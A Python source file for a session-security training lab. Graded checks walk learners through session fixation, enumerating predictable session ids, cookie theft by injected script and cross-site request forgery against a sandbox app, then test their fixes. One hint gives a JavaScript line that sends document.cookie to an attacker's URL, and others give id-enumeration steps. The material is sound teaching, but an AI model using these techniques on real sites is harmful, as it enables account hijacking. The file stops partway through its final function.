"""03-sessions: fixate, predict, steal, ride and outlive sessions — then fix them.

Every check works over HTTP (and, for the cookie attacks, through a real headless
Chromium). What a breach of the session store would show comes from the lab-only route
``/api/_lab/sessions``; accounts for the checks come from ``POST /api/_lab/users``; the
app's clock moves with ``POST /api/_lab/clock`` so timeouts can be tested in seconds.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from typing import Any

import httpx

from labkit.attacks.session_ids import (
    predict_hashed,
    predict_mersenne,
    predict_seeded,
    time_based_uuid,
)
from labkit.attacks.sessions import (
    SetCookie,
    analyse_ids,
    attacker_site,
    browser_csrf,
    browser_xss,
    cookie_header,
    csrf_url,
    loot_cookies,
    other_site,
    set_cookies,
    steal_cookie_payload,
)
from labkit.exercises.check import CheckContext, Findings, Target, Verdict
from labkit.exercises.registry import LabDefinition
from labkit.exercises.rules import Rule, merge_rules
from labkit.patterns.sessions import id_digest

__all__ = ["LAB"]

LAB = LabDefinition(
    "03-sessions", "03 · Sessions", "labkit.sandbox.apps.sessions", uses_browser=True
)

LOGIN, LOGOUT, ME = "/api/auth/login", "/api/auth/logout", "/api/me"
ELEVATE, TRANSFER = "/api/auth/elevate", "/api/transfer"
SESSIONS, TRANSFERS, USERS, CLOCK, MINT, BUSY = (
    "/api/_lab/sessions",
    "/api/_lab/transfers",
    "/api/_lab/users",
    "/api/_lab/clock",
    "/api/_lab/mint",
    "/api/_lab/busy",
)
ENTROPY_SAMPLES = 200
MIN_BITS = 128  # ASVS 5.0 7.2.3
#: A share of ids this large that moved Python's shared ``random`` generator: it is the source
#: (another thread may move it now and then, never at every call).
SHARED_RANDOM_SHARE = 0.8
#: Timeouts the check accepts: idle between 2 and 30 min (OWASP: 2-5 high value, 15-30 low
#: risk) and absolute <= 12 h; a user busy within the idle limit must stay logged in for 1 h.
MAX_IDLE_S = 30 * 60
MAX_ABSOLUTE_S = 12 * 60 * 60
MIN_ABSOLUTE_S = 60 * 60
#: Idle gaps drawn per run: one every session must survive, one none may.
SHORT_IDLE_S = (90.0, 119.0)
LONG_IDLE_S = (MAX_IDLE_S + 1.0, 2 * MAX_IDLE_S)
BROWSER_TIMEOUT_S = 90


# -- helpers the checks share ------------------------------------------------------------
class Session:
    """One browser's view of the app: a client whose own cookie jar is never used."""

    def __init__(self, client: httpx.Client) -> None:
        self.client = client

    def request(
        self, method: str, path: str, cookie: tuple[str, str] | None = None, **kwargs: Any
    ) -> httpx.Response:
        self.client.cookies.clear()  # only the cookie we name is sent
        headers = cookie_header(*cookie) if cookie else {}
        return self.client.request(method, path, headers=headers, **kwargs)

    def me(self, cookie: tuple[str, str]) -> dict[str, Any] | None:
        response = self.request("GET", ME, cookie)
        return response.json() if response.status_code == 200 else None


@contextmanager
def _session(target: Target) -> Iterator[Session]:
    with target.client() as client:
        yield Session(client)


def _fault(response: httpx.Response) -> str:
    try:
        fault = response.json().get("labkitFault", "")
    except (ValueError, AttributeError):
        return ""
    return f" — {fault}" if fault else ""


def _session_cookie(response: httpx.Response) -> SetCookie | None:
    """The cookie a response sets (not a deletion)."""
    for cookie in set_cookies(response):
        if cookie.value and cookie.attributes.get("max-age") != "0":
            return cookie
    return None


def _account(session: Session) -> tuple[str, str]:
    body = session.request("POST", USERS).json()
    return body["email"], body["password"]


def _login(
    session: Session, email: str, password: str, planted: tuple[str, str] | None = None
) -> tuple[httpx.Response, SetCookie | None]:
    response = session.request("POST", LOGIN, planted, json={"email": email, "password": password})
    return response, _session_cookie(response)


def _dump(session: Session) -> dict[str, dict[str, Any]]:
    return {row["idSha256"]: row for row in session.request("GET", SESSIONS).json()["sessions"]}


def _cookie_name(session: Session) -> str | None:
    cookie = _session_cookie(session.request("GET", "/"))
    return cookie.name if cookie else None


def _signed_in(
    session: Session, findings: Findings, what: str = "a login"
) -> tuple[str, str, SetCookie] | None:
    """A fresh account, logged in; records a problem and returns None when that fails."""
    email, password = _account(session)
    response, cookie = _login(session, email, password)
    if response.status_code != 200 or cookie is None:
        findings.fail(
            f"{what} failed: {response.status_code}{_fault(response)}"
            + ("" if cookie else " (no session cookie was set)")
        )
        return None
    return email, password, cookie


def _strings(answer: Any) -> list[str] | None:
    if isinstance(answer, str):
        return [answer]
    if isinstance(answer, (list, tuple, set)) and all(isinstance(a, str) for a in answer):
        return list(answer)
    if isinstance(answer, dict) and all(isinstance(a, str) for a in answer):
        return list(answer)
    return None


# -- attacks -----------------------------------------------------------------------------
@LAB.check(
    "fixation",
    title="Session fixation: plant an id, let the victim log in with it, use it",
    kind="attack",
    hints=(
        "Fixation needs an id the attacker knows before the victim logs in: GET / gives every "
        "visitor a session id (the sessionid cookie of the response) before any login.",
        "httpx.post(site + '/api/auth/login', json={'email': ..., 'password': ...}, "
        "headers={'Cookie': f'sessionid={planted}'}) is the victim logging in with the planted "
        "id; then GET /api/me with the same Cookie header as the attacker. Return the id.",
        "Ready-made: labkit.attacks.sessions.cookie_header('sessionid', planted) builds that "
        "header and whoami(client, 'sessionid', planted) asks /api/me with it.",
    ),
    answer_help="the session id you planted before the victim logged in",
)
def fixation(ctx: CheckContext) -> Verdict:
    if not isinstance(ctx.answer, str) or not ctx.answer:
        return Verdict(False, f"expected the session id you planted (a string), got {ctx.answer!r}")
    with _session(ctx.target) as session:
        name = _cookie_name(session) or "sessionid"
        account = session.me((name, ctx.answer))
        record = _dump(session).get(id_digest(ctx.answer), {})
    findings = Findings()
    if not findings.expect(
        account is not None,
        "that id is not logged in: plant it first, then let the victim log in with it",
    ):
        return findings.verdict("", "the planted id does not open an account")
    findings.expect(
        record.get("kept") == "login",
        "that id was issued by the login itself: plant one *before* the victim logs in",
        f"the id you planted before the login now opens {account['email']}'s account",
    )
    return findings.verdict("session fixation works", "this is not a fixated session yet")


@LAB.check(
    "predict-ids",
    title="Predictable ids: find alice's session next to yours",
    kind="attack",
    hints=(
        "Log in as carol and look at your session id: it is a small number, and the visitors "
        "before you got the numbers just below it.",
        "Loop over range(int(my_id) - 25, int(my_id) + 26): GET /api/me with headers="
        "{'Cookie': f'sessionid={n}'}; a 200 whose email is not carol's is a hijacked session. "
        "Hand in those ids (a list of strings).",
        "Ready-made: labkit.attacks.sessions.enumerate_sessions(lab.client, 'sessionid', "
        "int(my_id)) tries the ids around yours (for ids from random.getrandbits, "
        "labkit.attacks.session_ids.predict_mersenne rebuilds the generator from 624 outputs).",
    ),
    answer_help="a list of session ids that belong to other users",
)
def predict_ids(ctx: CheckContext) -> Verdict:
    ids = _strings(ctx.answer)
    if not ids:
        return Verdict(False, f"expected a list of session ids (strings), got {ctx.answer!r}")
    with _session(ctx.target) as session:
        name = _cookie_name(session) or "sessionid"
        dump = _dump(session)
        hijacked = {}
        for session_id in ids:
            record = dump.get(id_digest(session_id), {})
            account = session.me((name, session_id))
            if account is not None and record.get("origin") == "victim":
                hijacked[session_id] = account["email"]
    findings = Findings()
    findings.expect(
        bool(hijacked),
        "none of those ids is a session of alice or bob (logged in before you arrived)",
        f"hijacked {len(hijacked)} session(s): {', '.join(sorted(set(hijacked.values())))}",
    )
    findings.expect(
        "alice@example.com" in hijacked.values(),
        "alice (the admin) is logged in too: find her session",
    )
    return findings.verdict("the ids gave the sessions away", "no victim session found yet")


@LAB.check(
    "steal-cookie",
    title="An injected script reads the session cookie (no HttpOnly), in a real browser",
    kind="attack",
    hints=(
        "A script on the wallet's page can read document.cookie when the cookie lacks "
        "HttpOnly; it only has to make the browser send that string to a URL of yours.",
        "new Image().src = EVIL + '/collect?c=' + encodeURIComponent(document.cookie); (with "
        "EVIL the attacker's evil.url) makes the browser request it; fetch(...) works too. "
        "evil.client.get('/loot').json() is what arrived; hand in that string.",
        "Ready-made: labkit.attacks.sessions.steal_cookie_payload(evil.url) writes the whole "
        "<script>, and browser_xss(browser, other_site(lab.url), email, password, payload) "
        "logs the victim in and opens the page with it.",
    ),
    answer_help="the cookie string your injected script sent to the attacker's site",
)
def steal_cookie(ctx: CheckContext) -> Verdict:
    loot = _strings(ctx.answer)
    if not loot:
        return Verdict(False, f"expected the stolen cookie string, got {ctx.answer!r}")
    pairs = loot_cookies(loot)
    findings = Findings()
    with _session(ctx.target) as session:
        opened = {
            name: account["email"]
            for name, value in pairs.items()
            if (account := session.me((name, value))) is not None
        }
    findings.expect(
        bool(opened),
        f"no session in what you handed in ({', '.join(pairs) or 'no name=value pairs'})",
        "the stolen cookie opens "
        + ", ".join(f"{email}'s account ({name})" for name, email in opened.items()),
    )
    return findings.verdict("a script stole the session", "nothing usable was stolen yet")


@LAB.check(
    "csrf",
    title="A cross-site form rides the session cookie (no SameSite), in a real browser",
    kind="attack",
    hints=(
        "csrf_url(evil.url, victim_url + '/api/transfer', to='mallory', amount=500) is the "
        "attacker's page; victim_url = other_site(lab.url) is another site.",
        "browser_csrf(browser, victim_url, email, password, page) logs the victim in and "
        "sends them to that page straight away.",
        "Hand in the recipient ('to') of your forged transfer.",
    ),
    answer_help="the 'to' of the transfer your cross-site page forged",
)
def csrf(ctx: CheckContext) -> Verdict:
    if not isinstance(ctx.answer, str) or not ctx.answer:
        return Verdict(False, f"expected the recipient of the forged transfer, got {ctx.answer!r}")
    with _session(ctx.target) as session:
        transfers = [t for t in session.request("GET", TRANSFERS).json() if t["to"] == ctx.answer]
    findings = Findings()
    if not findings.expect(bool(transfers), f"no transfer to {ctx.answer!r} was made"):
        return findings.verdict("", "no forged transfer yet")
    forged = [t for t in transfers if t.get("fetchSite") == "cross-site"]
    findings.expect(
        bool(forged),
        f"the transfers to {ctx.answer!r} were not started by another site "
        "(the browser's Sec-Fetch-Site said so): send the victim to the attacker's page",
        f"{forged[0]['from'] if forged else ''} sent {forged[0]['amount'] if forged else ''} "
        f"to {ctx.answer!r} from a page on {forged[0]['origin'] if forged else ''}",
    )
    return findings.verdict("the forged transfer went through", "no forged transfer yet")


@LAB.check(
    "after-logout",
    title="The session still works after logout",
    kind="attack",
    hints=(
        "Log in as carol and keep the session id.",
        "POST /api/auth/logout with it: the response clears the cookie in the browser.",
        "Replay the old id on /api/me. Hand in that id.",
    ),
    answer_help="a session id that was logged out and still works",
)
def after_logout(ctx: CheckContext) -> Verdict:
    if not isinstance(ctx.answer, str) or not ctx.answer:
        return Verdict(False, f"expected a session id (a string), got {ctx.answer!r}")
    with _session(ctx.target) as session:
        name = _cookie_name(session) or "sessionid"
        record = _dump(session).get(id_digest(ctx.answer), {})
        account = session.me((name, ctx.answer))
    findings = Findings()
    findings.expect(
        bool(record.get("loggedOut")),
        "that id was never logged out: POST /api/auth/logout with it first",
    )
    findings.expect(
        account is not None,
        "that id does not work any more",
        f"logged out, yet it still opens {account['email'] if account else ''}'s account",
    )
    return findings.verdict("logout did not end the session", "not a logged-out session yet")


# -- rules: what each fix must do, said once ---------------------------------------------
CSPRNG = Rule(
    "csprng",
    "Draw ids from the operating system's CSPRNG (`secrets`, `os.urandom`), never from "
    "Python's `random` module, seeded or not: 624 outputs of its Mersenne Twister predict "
    "every later one.",
)
UNPREDICTABLE = Rule(
    "unpredictable",
    "Put nothing an attacker can compute into an id: no counter, no clock, no `uuid1`, no "
    "hash of a counter or of the time.",
)
ENOUGH_BITS = Rule(
    "at-least-128-bits",
    "Give every id at least 128 bits of entropy, each id different (`uuid4` carries only 122 "
    "random bits, `token_hex(8)` 64).",
)
ID_RULES = (CSPRNG, UNPREDICTABLE, ENOUGH_BITS)

NEW_ID_AT_LOGIN = Rule(
    "new-id-at-login",
    "At login, return an id the browser did not bring: never keep the pre-login id or a "
    "planted one, never adopt an id the server did not issue.",
)
NEW_ID_AT_PRIVILEGE = Rule(
    "new-id-at-privilege-change",
    "When a signed-in user re-enters the password (a privilege change), return a new id too.",
)
OLD_ID_DIES = Rule(
    "old-id-dies",
    "Delete the old session: after a login or a privilege change, the id the browser brought "
    "opens nothing and is gone from the store.",
)
KEEPS_RECORD = Rule(
    "keeps-record",
    "Store `record` under the new id: the user is signed in with it, and an elevated session "
    "stays elevated.",
)
FIXATION_RULES = (NEW_ID_AT_LOGIN, NEW_ID_AT_PRIVILEGE, OLD_ID_DIES, KEEPS_RECORD)

HTTP_ONLY = Rule("http-only", "Mark the cookie `HttpOnly`, so no script on the page can read it.")
SECURE = Rule("secure", "Mark it `Secure`, so it never travels over plain HTTP.")
SAME_SITE = Rule(
    "same-site",
    "Set `SameSite=Strict` (or `Lax`: both keep other sites' forms from sending it), never "
    "`None`, never left out.",
)
HOST_PREFIX = Rule(
    "host-prefix",
    "Name it `__Host-...` with `Path=/` and no `Domain`, so no other host can set or shadow it.",
)
ROUND_TRIP = Rule(
    "round-trip",
    "Carry the session id unchanged as the cookie's value: the app must find the session the "
    "browser sends back.",
)
COOKIE_RULES = (HTTP_ONLY, SECURE, SAME_SITE, HOST_PREFIX, ROUND_TRIP)
BROWSER_KEEPS = Rule(
    "browser-keeps",
    "Write a cookie browsers keep, so users still sign in (a `__Host-` cookie with a `Domain`, "
    "or without `Secure` or `Path=/`, is dropped).",
)
BROWSER_RULES = (HTTP_ONLY, SAME_SITE, BROWSER_KEEPS)

SERVER_SIDE = Rule(
    "server-side",
    "Delete the session from the store: after logout the old id opens nothing, wherever a copy "
    "of it is (the app already clears the cookie in the browser).",
)
CLEAN_LOGOUT = Rule(
    "clean-logout",
    "Answer a logout of an id that is already gone (logged out twice, or never issued) like any "
    "other, and let the user log in again afterwards.",
)
LOGOUT_RULES = (SERVER_SIDE, CLEAN_LOGOUT)

IDLE_TIMEOUT = Rule(
    "idle-timeout",
    "End a session after at most 30 minutes without a request, and not before 2 minutes "
    "(OWASP: 2–5 minutes for high-value apps, 15–30 for low-risk ones).",
)
IDLE_FROM_LAST = Rule(
    "idle-from-last-request",
    "Count idle time from the last request (`last_seen`), not from login: a user who sends a "
    "request every 90–120 seconds stays signed in for at least an hour.",
)
ABSOLUTE_TIMEOUT = Rule(
    "absolute-timeout",
    "End every session at most 12 hours after login, however busy it is (OWASP: 4–8 hours for "
    "an office-day app).",
)
TIMEOUT_RULES = (IDLE_TIMEOUT, IDLE_FROM_LAST, ABSOLUTE_TIMEOUT)

Battery = Callable[[Target, Findings, random.Random], None]


# -- batteries: each attack replayed against an app, plus the legitimate flow -----------
def _mint(session: Session, count: int) -> dict[str, Any] | None:
    response = session.request("POST", MINT, json={"count": count})
    return response.json() if response.status_code == 200 else None


def _entropy_battery(target: Target, findings: Findings, rng: random.Random) -> None:
    with _session(target) as session:
        response = session.request("GET", "/")
        if _session_cookie(response) is None:
            findings.fail(
                f"GET / set no session cookie ({response.status_code}){_fault(response)}",
                rule=ENOUGH_BITS.id,
            )
            return
        minted = _mint(session, ENTROPY_SAMPLES)
    if minted is None:
        findings.fail("new_session_id could not make ids in a row", rule=ENOUGH_BITS.id)
        return
    ids, windows = minted["ids"], minted["windowsNs"]
    moved = minted["sharedRandomMoved"]
    findings.expect(
        moved < len(ids) * SHARED_RANDOM_SHARE,
        f"making {len(ids)} ids moved Python's shared `random` generator {moved} times: "
        "`random` is not a CSPRNG, use `secrets`",
        "Python's shared `random` generator is never touched",
        rule=CSPRNG.id,
    )
    for predict in (predict_mersenne, lambda i: predict_seeded(i, windows)):
        found = predict(ids)
        findings.expect(
            found is None,
            f"an attacker computes your ids — {found}: use `secrets`",
            rule=CSPRNG.id,
        )
    for found in (predict_hashed(ids, windows), time_based_uuid(ids)):
        findings.expect(
            found is None,
            f"an attacker computes your ids — {found}: use `secrets`",
            rule=UNPREDICTABLE.id,
        )
    findings.saw(
        f"{len(ids)} ids: no Mersenne Twister state, seed, hashed counter or clock predicts them"
    )
    analysis = analyse_ids(ids)
    findings.expect(
        analysis.unique == analysis.count,
        f"{analysis.count - analysis.unique} of {analysis.count} ids were issued twice",
        f"{analysis.count} ids, all distinct",
        rule=ENOUGH_BITS.id,
    )
    findings.expect(
        not analysis.sequential,
        f"the ids count up (consecutive ids differ by ~{analysis.median_gap or 0:,.0f}): "
        "the next id is a guess away",
        rule=UNPREDICTABLE.id,
    )
    findings.expect(
        analysis.bits >= MIN_BITS,
        f"~{analysis.bits:.0f} random bits per id (e.g. {ids[0]!r}): ASVS 7.2.3 asks for at "
        "least 128 from a CSPRNG",
        f"~{analysis.bits:.0f} random bits per id ({analysis.alphabet}, "
        f"{max(analysis.lengths)} characters)",
        rule=ENOUGH_BITS.id,
    )


def _made_up_id(rng: random.Random) -> str:
    """An id the server never issued, shaped like a real one."""
    alphabet = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_"
    return "".join(rng.choice(alphabet) for _ in range(rng.randint(22, 48)))


def _in_store(session: Session, session_id: str) -> bool:
    return id_digest(session_id) in _dump(session)


def _fixation_battery(target: Target, findings: Findings, rng: random.Random) -> None:
    with _session(target) as session:
        victim = _account(session)
        anonymous = _session_cookie(session.request("GET", "/"))
        with findings.rule(KEEPS_RECORD.id):
            signed = _signed_in(session, findings, "a login of the attacker's own account")
        if anonymous is None or signed is None:
            if anonymous is None:
                findings.fail("GET / set no session cookie", rule=KEEPS_RECORD.id)
            return
        name, own = signed[2].name, signed[2].value
        plants = {
            "the server's own pre-login id": anonymous.value,
            "an id the server never issued": _made_up_id(rng),
            "the attacker's own signed-in id": own,
        }
        fresh = None
        for label, planted in rng.sample(list(plants.items()), len(plants)):
            response, cookie = _login(session, *victim, (name, planted))
            if response.status_code != 200 or cookie is None:
                findings.fail(
                    f"a login that brought {label} failed: {response.status_code}"
                    f"{_fault(response)}",
                    rule=KEEPS_RECORD.id,
                )
                continue
            whose = session.me((name, planted))
            findings.expect(
                cookie.value != planted and (whose or {}).get("email") != victim[0],
                f"{label} was kept at login: whoever knew it is now the victim (renew the id)",
                f"{label}: replaced at login",
                rule=NEW_ID_AT_LOGIN.id,
            )
            if cookie.value != planted:
                findings.expect(
                    whose is None and not _in_store(session, planted),
                    f"{label} still lives after the login gave out a new id: delete the old "
                    "session",
                    rule=OLD_ID_DIES.id,
                )
            me = session.me((name, cookie.value))
            findings.expect(
                (me or {}).get("email") == victim[0],
                f"after a login that brought {label} the new id is not signed in: store "
                "the record under it",
                rule=KEEPS_RECORD.id,
            )
            fresh = cookie if me else fresh
        if fresh is None:
            return
        response = session.request(
            "POST", ELEVATE, (name, fresh.value), json={"password": victim[1]}
        )
        elevated = _session_cookie(response)
        if response.status_code != 200 or elevated is None:
            findings.fail(
                f"re-entering the password failed: {response.status_code}{_fault(response)}",
                rule=KEEPS_RECORD.id,
            )
            return
        findings.expect(
            elevated.value != fresh.value,
            "the id was kept when the session gained privileges: renew it at every privilege "
            "change",
            "a privilege change renews the id",
            rule=NEW_ID_AT_PRIVILEGE.id,
        )
        if elevated.value != fresh.value:
            findings.expect(
                session.me((name, fresh.value)) is None,
                "the id from before the privilege change still opens the account: delete it",
                "the id from before the privilege change is dead",
                rule=OLD_ID_DIES.id,
            )
        after = session.me((name, elevated.value))
        findings.expect(
            bool(after and after.get("elevated")),
            "the renewed session lost its privileges",
            "the renewed session carries the new privilege",
            rule=KEEPS_RECORD.id,
        )


def _flags_battery(target: Target, findings: Findings, rng: random.Random) -> None:
    with _session(target) as session:
        seen: list[tuple[str, SetCookie]] = []
        anonymous = _session_cookie(session.request("GET", "/"))
        if anonymous is not None:
            seen.append(("the pre-login cookie", anonymous))
        with findings.rule(ROUND_TRIP.id):
            signed = _signed_in(session, findings)
        if signed is None:
            return
        seen.append(("the login cookie", signed[2]))
        for where, cookie in seen:
            findings.expect(
                cookie.http_only,
                f"{where} ({cookie}): no HttpOnly: any script on the page reads it",
                rule=HTTP_ONLY.id,
            )
            findings.expect(
                cookie.secure,
                f"{where} ({cookie}): no Secure: it travels over plain HTTP",
                rule=SECURE.id,
            )
            findings.expect(
                cookie.same_site in ("Strict", "Lax"),
                f"{where} ({cookie}): SameSite is {cookie.same_site or 'missing'}: set Strict "
                "(or Lax), so other sites' forms cannot make the browser send it",
                rule=SAME_SITE.id,
            )
            findings.expect(
                cookie.name.startswith("__Host-")
                and cookie.path == "/"
                and cookie.domain is None
                and cookie.secure,
                f"{where} ({cookie}): name it __Host-... with Secure, Path=/ and no Domain, so "
                "no other host can set or shadow it (ASVS 3.3.3)",
                rule=HOST_PREFIX.id,
            )
        cookie = signed[2]
        findings.expect(
            session.me((cookie.name, cookie.value)) is not None,
            f"the app does not find the session when the browser sends this cookie back "
            f"({cookie}): its value must be the session id itself",
            f"Set-Cookie: {cookie.raw.replace(cookie.value, '…')}",
            rule=ROUND_TRIP.id,
        )


def _browser_battery(target: Target, findings: Findings, rng: random.Random) -> None:
    """Both cookie attacks in a real Chromium, the victim on another site than the attacker."""
    from labkit.browser import BrowserUnavailable, run_in_browser
    from labkit.sandbox.server import Sandbox

    victim = other_site(target.url)
    with _session(target) as session:
        with findings.rule(BROWSER_KEEPS.id):
            signed = _signed_in(session, findings)  # fail fast, before starting a browser
        if signed is None:
            return
        email, password, _ = signed
    with Sandbox(attacker_site(), name="attacker") as evil:
        payload = steal_cookie_payload(evil.url)
        recipient = f"mallory-{rng.randrange(16**6):06x}"
        page = csrf_url(evil.url, victim + TRANSFER, to=recipient, amount=rng.randint(10, 999))

        def both(browser: Any) -> tuple[Any, Any]:
            return (
                browser_xss(browser, victim, email, password, payload),
                browser_csrf(browser, victim, email, password, page),
            )

        try:
            stolen, forged = run_in_browser(both, timeout=BROWSER_TIMEOUT_S)
        except BrowserUnavailable as exc:
            findings.fail(f"this check needs a real browser and none could start: {exc}")
            return
        loot = evil.client.get("/loot").json()
    findings.expect(
        stolen.signed_in and forged.signed_in,
        "in the browser the victim could not log in: Chromium refused the cookie "
        "(a __Host- cookie needs Secure, Path=/ and no Domain)",
        "in Chromium the victim logs in normally",
        rule=BROWSER_KEEPS.id,
    )
    with _session(target) as session:
        pairs = loot_cookies(loot)
        opened = [n for n, v in pairs.items() if session.me((n, v)) is not None]
        findings.expect(
            not opened,
            f"the injected script read the session cookie ({', '.join(opened)}) and it "
            "opens the account: add HttpOnly",
            f"the injected script saw document.cookie = {stolen.document_cookie!r}: "
            "nothing to steal",
            rule=HTTP_ONLY.id,
        )
        transfers = [t for t in session.request("GET", TRANSFERS).json() if t["to"] == recipient]
    findings.expect(
        not transfers,
        "the attacker's page on another site made the victim's browser send a transfer "
        f"(landed with {forged.landing_status}): set SameSite=Strict (or Lax)",
        f"the cross-site form POST was refused ({forged.landing_status})",
        rule=SAME_SITE.id,
    )


def _logout_battery(target: Target, findings: Findings, rng: random.Random) -> None:
    with _session(target) as session:
        with findings.rule(CLEAN_LOGOUT.id):
            signed = _signed_in(session, findings)
        if signed is None:
            return
        email, password, cookie = signed
        pair = (cookie.name, cookie.value)
        response = session.request("POST", LOGOUT, pair)
        if not findings.expect(
            response.status_code == 200,
            f"logout failed: {response.status_code}{_fault(response)}",
            rule=CLEAN_LOGOUT.id,
        ):
            return
        findings.expect(
            session.me(pair) is None and not _in_store(session, cookie.value),
            "replaying the old cookie after logout still opens the account (or its session is "
            "still in the store): delete the session on the server (the cookie is only the "
            "browser's copy)",
            "the old cookie is dead after logout (401) and its session is gone from the store",
            rule=SERVER_SIDE.id,
        )
        forged = session.request(
            "POST", TRANSFER, pair, json={"to": "mallory", "amount": rng.randint(1, 999)}
        )
        findings.expect(
            forged.status_code == 401,
            f"a transfer with the logged-out cookie got {forged.status_code}",
            rule=SERVER_SIDE.id,
        )
        gone = {"the same id again": cookie.value, "an id never issued": _made_up_id(rng)}
        for label, session_id in gone.items():
            again = session.request("POST", LOGOUT, (cookie.name, session_id))
            findings.expect(
                again.status_code == 200,
                f"logging out {label} answered {again.status_code}{_fault(again)}",
                f"logging out {label}: 200",
                rule=CLEAN_LOGOUT.id,
            )
        response, fresh = _login(session, email, password)
        findings.expect(
            response.status_code == 200
            and fresh is not None
            and session.me((fresh.name, fresh.value)) is not None,
            "logging in again after logout does not work",
            "logging in again works",
            rule=CLEAN_LOGOUT.id,
        )


def _advance(session: Session, seconds: float) -> None:
    session.request("POST", CLOCK, json={"advance": seconds}).raise_for_status()


def _timeouts_battery(target: Target, findings: Findings, rng: random.Random) -> None:
    with _session(target) as session:
        with findings.rule(IDLE_TIMEOUT.id):
            signed = _signed_in(session, findings)
        if signed is None:
            return
        email, password, cookie = signed
        pair = (cookie.name, cookie.value)
        first = session.request("GET", ME, pair)
        if first.status_code != 200:
            findings.fail(
                f"a fresh session does not work: {first.status_code}{_fault(first)}",
                rule=IDLE_TIMEOUT.id,
            )
            return
        short = round(rng.uniform(*SHORT_IDLE_S), 1)
        long = round(rng.uniform(*LONG_IDLE_S), 1)
        _advance(session, short)
        if not findings.expect(
            session.me(pair) is not None,
            f"a session died after {short:.0f} s without a request: an idle timeout under "
            "2 minutes logs people out mid-sentence",
            f"idle for {short:.0f} s: still signed in",
            rule=IDLE_TIMEOUT.id,
        ):
            return
        _advance(session, long)
        findings.expect(
            session.me(pair) is None,
            f"a session left idle for {long / 60:.0f} minutes still works: end it after at most 30",
            f"idle for {long / 60:.0f} minutes: expired",
            rule=IDLE_TIMEOUT.id,
        )
        # Absolute: a user busy every `short` seconds (within any idle limit) until it ends.
        response, active = _login(session, email, password)
        if active is None:
            findings.fail(
                f"logging in again failed: {response.status_code}{_fault(response)}",
                rule=IDLE_TIMEOUT.id,
            )
            return
        until = MAX_ABSOLUTE_S + 2 * short
        busy = session.request(
            "POST", BUSY, json={"sessionId": active.value, "every": short, "until": until}
        )
        if busy.status_code != 200:
            findings.fail(f"the busy user's requests failed: {busy.status_code}{_fault(busy)}")
            return
        alive_s = float(busy.json()["aliveFor"])
        findings.expect(
            alive_s >= MIN_ABSOLUTE_S,
            f"a user active every {short:.0f} s was logged out after {alive_s / 60:.0f} "
            "minutes: measure idle time from the last request, and make the absolute limit "
            "hours, not minutes",
            "a busy user stays logged in for hours",
            rule=IDLE_FROM_LAST.id,
        )
        findings.expect(
            alive_s <= MAX_ABSOLUTE_S,
            f"a session kept busy is still alive after {MAX_ABSOLUTE_S // 3600} hours: add an "
            "absolute timeout (OWASP: 4-8 hours for an office-day app)",
            f"a busy session ends after {alive_s / 3600:.1f} h (absolute timeout)",
            rule=ABSOLUTE_TIMEOUT.id,
        )


# -- fixes -------------------------------------------------------------------------------
def _single(battery: Battery, passed: str, failed: str) -> Any:
    def run(ctx: CheckContext) -> Verdict:
        findings = Findings()
        battery(ctx.require_patched(), findings, ctx.rng)
        return findings.verdict(passed, failed)

    return run


LAB.check(
    "id-entropy",
    title="Session ids nobody can guess",
    kind="fix",
    fixes=("new_session_id",),
    rules=ID_RULES,
    hints=(
        "The secrets module is the CSPRNG of the standard library; random is not one.",
        "128 bits is the minimum (ASVS 7.2.3): uuid4 has only 122 random bits, "
        "token_hex(8) only 64.",
        "return secrets.token_urlsafe(32)  # 256 bits, 43 URL-safe characters",
    ),
)(_single(_entropy_battery, "the ids are unguessable", "the ids can be guessed"))

LAB.check(
    "no-fixation",
    title="A new id at login and at every privilege change",
    kind="fix",
    fixes=("start_session",),
    rules=FIXATION_RULES,
    hints=(
        "Whatever old_id the browser brought — planted, or the server's own pre-login id — "
        "must not survive.",
        "Delete the old session (store.delete(old_id)) and store the record under a brand-new "
        "id (store.put(new_id, record)); return the new id.",
        "The app calls start_session at login and when the user re-enters the password.",
    ),
)(_single(_fixation_battery, "fixation no longer works", "a known id survives a login"))

LAB.check(
    "cookie-flags",
    title="__Host-session with HttpOnly, Secure and SameSite",
    kind="fix",
    fixes=("session_cookie",),
    rules=COOKIE_RULES,
    hints=(
        "Return a whole Set-Cookie value: 'name=value; Attribute; Attribute=value'.",
        "HttpOnly hides it from scripts, Secure keeps it off plain HTTP, SameSite=Strict (or "
        "Lax) keeps other sites from making the browser send it.",
        "The __Host- prefix needs Path=/ and Secure, and no Domain.",
    ),
)(_single(_flags_battery, "the cookie carries every flag", "the cookie is missing flags"))

LAB.check(
    "cookie-browser",
    title="The script and the cross-site form fail in a real browser",
    kind="fix",
    fixes=("session_cookie",),
    rules=BROWSER_RULES,
    hints=(
        "This replays both browser attacks against your cookie in headless Chromium.",
        "A stolen cookie needs HttpOnly; a ridden cookie needs SameSite=Strict (or Lax).",
        "No browser? Run `labkit doctor`: this check cannot pass without one.",
    ),
)(_single(_browser_battery, "both browser attacks fail", "a browser attack still works"))

LAB.check(
    "logout",
    title="Logout ends the session on the server",
    kind="fix",
    fixes=("end_session",),
    rules=LOGOUT_RULES,
    hints=(
        "The app already clears the cookie in the browser; a copy of it elsewhere still works.",
        "Delete the session from the store: store.delete(session_id).",
    ),
)(_single(_logout_battery, "logout kills the session", "the session outlives the logout"))

LAB.check(
    "timeouts",
    title="Idle and absolute timeouts",
    kind="fix",
    fixes=("session_expired",),
    rules=TIMEOUT_RULES,
    hints=(
        "Two clocks: time since the last request (idle) and time since login (absolute).",
        "For example 15 minutes idle and 8 hours absolute (OWASP Session Management CS).",
        "return now - last_seen >= 15 * 60 or now - created >= 8 * 3600",
    ),
)(_single(_timeouts_battery, "sessions expire", "sessions live too long"))

BATTERIES: dict[str, Battery] = {
    "id entropy": _entropy_battery,
    "fixation": _fixation_battery,
    "cookie flags": _flags_battery,
    "browser attacks": _browser_battery,
    "logout": _logout_battery,
    "timeouts": _timeouts_battery,
}


@LAB.check(
    "verify",
    title="Replay every attack of this lab against your fixed app",
    kind="fix",
    fixes=("new_session_id", "start_session", "session_cookie", "end_session", "session_expired"),
    points=2,
    rules=merge_rules(
        ID_RULES, FIXATION_RULES, COOKIE_RULES, BROWSER_RULES, LOGOUT_RULES, TIMEOUT_RULES
    ),
    hints=(
        "Pass all five of your functions: together they are the app's session management.",
        "Each battery names what failed; fix that function and run the cell again.",
    ),
)
def verify(ctx: CheckContext) -> Verdict:
    findings = Findings()
    target = ctx.require_patched()
    for name, battery in BATTERIES.items():
